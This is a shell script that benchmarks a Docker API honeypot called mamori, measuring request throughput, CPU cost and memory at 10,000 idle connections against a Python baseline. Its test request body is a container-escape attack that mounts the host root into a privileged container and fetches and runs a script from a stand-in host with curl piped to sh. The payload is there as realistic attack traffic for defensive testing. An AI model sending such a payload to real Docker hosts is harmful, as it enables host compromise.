#!/bin/sh
# honeypot.sh MAMORI — honeypot throughput and memory.
#
# Starts `mamori honeypot` on 127.0.0.1 pinned to one core (taskset -c 0),
# with records written to a log as in production, and drives it with wrk
# pinned to another core (keep-alive, 50 connections, HP_BENCH_SECS seconds
# per run, default 10, HP_BENCH_RUNS runs, default 3, medians):
#   GET /_ping                   the cheapest request;
#   POST /v1.41/containers/create the docker CLI's create body (image pulled
#                                first), parsed with jansson, stored,
#                                recorded, indicator-scanned.
# Then holds 10,000 idle connections and reads the honeypot's RSS.
# Baseline for scale (no honeypot peer is installed): python3's
# http.server (ThreadingHTTPServer, keep-alive) answering /_ping on the
# same core. Besides wall-clock requests/s, the requests per CPU-second
# the honeypot used are shown: on a loaded machine they are the honest
# number. Targets: >= 20,000 requests/s keep-alive on one core; < 64 MB
# at 10,000 idle connections.
set -eu
bin=$1
secs=${HP_BENCH_SECS:-10}
runs=${HP_BENCH_RUNS:-3}
dir=$(mktemp -d "${TMPDIR:-/tmp}/mamori-bench-hp.XXXXXX")
chmod 1777 "$dir"
hp_pid=""
py_pid=""
cleanup() {
	[ -n "$hp_pid" ] && kill "$hp_pid" 2>/dev/null
	[ -n "$py_pid" ] && kill "$py_pid" 2>/dev/null
	sleep 0.2
	rm -rf "$dir"
}
trap cleanup EXIT INT TERM
ulimit -n 20000 2>/dev/null || true
command -v wrk >/dev/null || { echo "SKIP: wrk is not installed"; exit 0; }
cpus=$(nproc)
srv_cpu=0
cli_cpu=$((cpus > 1 ? 1 : 0))

port=$(python3 -c 'import socket;s=socket.socket();s.bind(("127.0.0.1",0));print(s.getsockname()[1])')
taskset -c $srv_cpu "$bin" honeypot --docker 127.0.0.1:$port --log "$dir/records.jsonl" --no-db \
	--format jsonl --max-conns 20000 --max-per-ip 20000 >"$dir/alerts.jsonl" 2>"$dir/err.txt" &
hp_pid=$!
for i in $(seq 50); do
	grep -q "docker on" "$dir/err.txt" 2>/dev/null && break
	sleep 0.1
done
curl -s -X POST "http://127.0.0.1:$port/v1.41/images/create?fromImage=alpine&tag=latest" >/dev/null

cat >"$dir/create.lua" <<'LUA'
wrk.method = "POST"
wrk.headers["Content-Type"] = "application/json"
wrk.headers["User-Agent"] = "Docker-Client/28.2.2 (linux)"
wrk.body = '{"Hostname":"","Domainname":"","User":"","AttachStdin":false,"AttachStdout":false,"AttachStderr":false,"Tty":false,"OpenStdin":false,"StdinOnce":false,"Env":null,"Cmd":["chroot","/host","sh","-c","curl -fsSL http://192.0.2.1/x.sh | sh"],"Image":"alpine","Volumes":{},"WorkingDir":"","Entrypoint":null,"OnBuild":null,"Labels":{},"HostConfig":{"Binds":["/:/host"],"ContainerIDFile":"","LogConfig":{"Type":"","Config":{}},"NetworkMode":"default","PortBindings":{},"RestartPolicy":{"Name":"no","MaximumRetryCount":0},"AutoRemove":false,"Privileged":true},"NetworkingConfig":{"EndpointsConfig":{}},"Platform":null}'
LUA

median() { sort -n | awk '{a[NR]=$1} END {print a[int((NR+1)/2)]}'; }
rps() { sed -n 's/^Requests\/sec: *\([0-9.]*\).*/\1/p'; }
# CPU seconds (user + system) the process has used so far
cpu_secs() { awk -v t="$(getconf CLK_TCK)" '{print ($14 + $15) / t}' "/proc/$1/stat"; }

# Prints "wall-clock req/s" and "requests per CPU-second of the server";
# the second does not depend on what else the machine runs.
bench_url() {
	# $1 server pid, $2 url, $3 optional lua script
	for r in $(seq "$runs"); do
		c0=$(cpu_secs "$1")
		if [ -n "${3:-}" ]; then
			taskset -c $cli_cpu wrk -t1 -c50 -d"${secs}s" -s "$3" "$2" >"$dir/wrk.txt"
		else
			taskset -c $cli_cpu wrk -t1 -c50 -d"${secs}s" "$2" >"$dir/wrk.txt"
		fi
		c1=$(cpu_secs "$1")
		n=$(sed -n 's/^ *\([0-9]*\) requests in.*/\1/p' "$dir/wrk.txt")
		echo "$(rps <"$dir/wrk.txt") $(echo "$n $c0 $c1" | awk '{d = $3 - $2; printf "%.0f", (d > 0 ? $1 / d : 0)}')"
	done >"$dir/runs.txt"
	echo "$(cut -d' ' -f1 "$dir/runs.txt" | median) $(cut -d' ' -f2 "$dir/runs.txt" | median)"
}

set -- $(bench_url "$hp_pid" "http://127.0.0.1:$port/_ping")
ping_rps=$1 ping_cpu=$2
set -- $(bench_url "$hp_pid" "http://127.0.0.1:$port/v1.41/containers/create" "$dir/create.lua")
create_rps=$1 create_cpu=$2

idle_rss=$(python3 - "$port" "$hp_pid" <<'PY'
import socket, sys, time
port, pid = int(sys.argv[1]), int(sys.argv[2])
socks = []
for i in range(10000):
    s = socket.socket()
    s.connect(("127.0.0.1", port))
    socks.append(s)
time.sleep(1)
for l in open("/proc/%d/status" % pid):
    if l.startswith("VmRSS:"):
        print("%.1f" % (int(l.split()[1]) / 1024))
PY
)
hwm=$(awk '/VmHWM/ {printf "%.1f", $2/1024}' /proc/$hp_pid/status)
kill -TERM "$hp_pid"
wait "$hp_pid" || true
hp_pid=""
recs=$(wc -l <"$dir/records.jsonl")

# baseline: python3 http.server on the same core
pport=$(python3 -c 'import socket;s=socket.socket();s.bind(("127.0.0.1",0));print(s.getsockname()[1])')
cat >"$dir/base.py" <<PY
import http.server
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        self.send_response(200)
        self.send_header("Api-Version", "1.41")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"OK")
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", $pport), H).serve_forever()
PY
taskset -c $srv_cpu python3 "$dir/base.py" &
py_pid=$!
sleep 0.5
set -- $(bench_url "$py_pid" "http://127.0.0.1:$pport/_ping")
base_rps=$1
kill "$py_pid"
py_pid=""

printf "%-44s %12s\n" "measure" "value"
printf "%-44s %12s\n" "mamori honeypot GET /_ping (req/s, 1 core)" "$ping_rps"
printf "%-44s %12s\n" "  same, requests per CPU-second of mamori" "$ping_cpu"
printf "%-44s %12s\n" "mamori honeypot POST create (req/s, 1 core)" "$create_rps"
printf "%-44s %12s\n" "  same, requests per CPU-second of mamori" "$create_cpu"
printf "%-44s %12s\n" "python3 http.server GET /_ping (req/s)" "$base_rps"
printf "%-44s %12s\n" "ratio mamori/python on /_ping" "$(echo "$ping_rps $base_rps" | awk '{printf "%.1fx", $1/$2}')"
printf "%-44s %12s\n" "RSS at 10,000 idle connections (MB)" "$idle_rss"
printf "%-44s %12s\n" "peak RSS over the whole run (MB)" "$hwm"
printf "%-44s %12s\n" "records written" "$recs"
echo "targets: >= 20000 req/s keep-alive on one core; < 64 MB at 10,000 idle connections"
